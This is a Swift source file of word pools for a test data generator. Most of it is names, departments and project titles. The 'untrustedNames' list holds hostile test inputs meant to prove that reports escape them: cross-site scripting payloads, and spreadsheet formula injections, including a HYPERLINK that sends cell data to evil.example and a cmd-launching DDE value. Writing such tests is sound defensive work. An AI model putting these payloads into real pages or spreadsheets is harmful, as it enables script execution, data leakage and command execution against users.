/// The word lists the generator draws names, departments and container names from.
enum NamePools {
    static let firstNames = [
        "Aaron", "Abigail", "Adrian", "Aisha", "Alex", "Amara", "Ben", "Bianca", "Caleb", "Carmen",
        "Daniel", "Elena", "Ethan", "Fatima", "Felix", "Grace", "Hannah", "Hugo", "Isaac", "Ivy",
        "Jack", "Julia", "Kai", "Laura", "Leo", "Maya", "Mohammed", "Nina", "Noah", "Olivia",
        "Oscar", "Paula", "Quinn", "Rachel", "Ravi", "Sara", "Tom", "Uma", "Victor", "Wendy",
        "Xavier", "Yara", "Zack", "Mei", "Kenji", "Ingrid", "Pedro", "Chloe", "Omar", "Lucy",
    ]
    static let lastNames = [
        "Adams", "Baker", "Campbell", "Diaz", "Evans", "Fischer", "Gupta", "Hansen", "Ito", "Jensen",
        "Kowalski", "Lopez", "Martin", "Nguyen", "Okoro", "Petrov", "Quinn", "Rossi", "Schmidt", "Tanaka",
        "Ueda", "Varga", "Walker", "Xu", "Young", "Zimmer", "Brown", "Clark", "Hughes", "Moreau",
        "Silva", "Kim", "Singh", "Murphy", "Novak", "Larsen", "Costa", "Reyes", "Abbott", "Fraser",
    ]
    static let departments = [
        "Engineering", "Sales", "Finance", "Operations", "Marketing", "Legal", "Customer Support", "People",
    ]
    static let projectWords = [
        "Riverside Tower", "Harbor Bridge", "North Campus", "Data Platform", "Website Redesign",
        "Mobile App", "Q4 Audit", "Warehouse Retrofit", "Onboarding Revamp", "Billing Migration",
    ]
    /// Untrusted display names: every one must come out of a report inert (escaped HTML,
    /// formula-prefixed CSV cells), and non-Latin names must survive intact.
    static let untrustedNames = [
        "<script>alert('xss')</script>",
        "\"><img src=x onerror=alert(1)>",
        "' onmouseover='alert(1)",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+SUM(1,2)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "O'Brien, \"Bobby\" Jr.",
        "Zoë Ñúñez-Øster",
        "张伟",
        "Алексей Иванов",
        "محمد علي",
    ]
    /// A project name with `<`, `&` and both quote marks (issue #4).
    static let hostileProjectName = "Q3 <Launch> & \"Go-Live\" 'Ops'"
}
